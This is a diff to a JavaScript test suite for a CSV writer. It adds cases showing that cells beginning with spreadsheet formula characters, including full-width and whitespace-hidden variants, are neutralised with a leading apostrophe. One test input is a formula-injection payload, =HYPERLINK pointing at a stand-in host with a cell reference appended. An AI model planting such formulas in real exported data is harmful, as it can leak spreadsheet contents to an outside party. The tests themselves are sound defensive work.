@@ -29,14 +29,46 @@ test.each([
   ['two\r\nlines', '"two\r\nlines"'],
   ['a lone\rreturn', '"a lone\rreturn"'],
   ['{"a":"1,2"}', '"{""a"":""1,2""}"'],
+  ['a=b', 'a=b'],
+  ['5-4', '5-4'],
+  ["o'clock", "o'clock"],
 ])('the cell %j stands as %j', (text, cell) => {
+  expect(csv(['x'], [[text]])).toBe(`x\r\n${cell}\r\n`);
+});
+
+test.each([
+  ['=1+1', "'=1+1"],
+  ['+1', "'+1"],
+  ['-1', "'-1"],
+  ['@SUM(1)', "'@SUM(1)"],
+  ['=HYPERLINK("http://x.example/"&A1)', '"\'=HYPERLINK(""http://x.example/""&A1)"'],
+  ['＝1', "'＝1"],
+  ['＋1', "'＋1"],
+  ['－1', "'－1"],
+  ['＠a', "'＠a"],
+  [' =1', "' =1"],
+  ['\u00a0\u3000=1', "'\u00a0\u3000=1"],
+  ['\ufeff\u200b=1', "'\ufeff\u200b=1"],
+  ['"=1', '"\'""=1"'],
+  ['\tx', "'\tx"],
+  ['\t=x', "'\t'=x"],
+  ['\rx', '"\'\rx"'],
+  ['\nx', '"\'\nx"'],
+  ['x;=1', "x;'=1"],
+  ['x\t@1', "x\t'@1"],
+  ['x\n+1', '"x\n\'+1"'],
+  ['x;"=1', '"x;\'""=1"'],
+  ["'", "''"],
+  ["'=1", "''=1"],
+  ["x;'=1", "x;''=1"],
+])('the cell %j, which a spreadsheet might run, stands as %j', (text, cell) => {
   expect(csv(['x'], [[text]])).toBe(`x\r\n${cell}\r\n`);
 });
 
 test('whatever is in a cell comes back out of it', () => {
   const rows = [
     ['a,b', 'c"d', 'e\r\nf', '""', ',', ''],
-    ['\n', '"\r"', 'x', '', '', '"",""'],
+    ['x\n', '"\r"', 'x', '', '', '"",""'],
   ];
   const [, ...read] = parse(csv(['1', '2', '3', '4', '5', '6'], rows));
   expect(read).toEqual(rows);
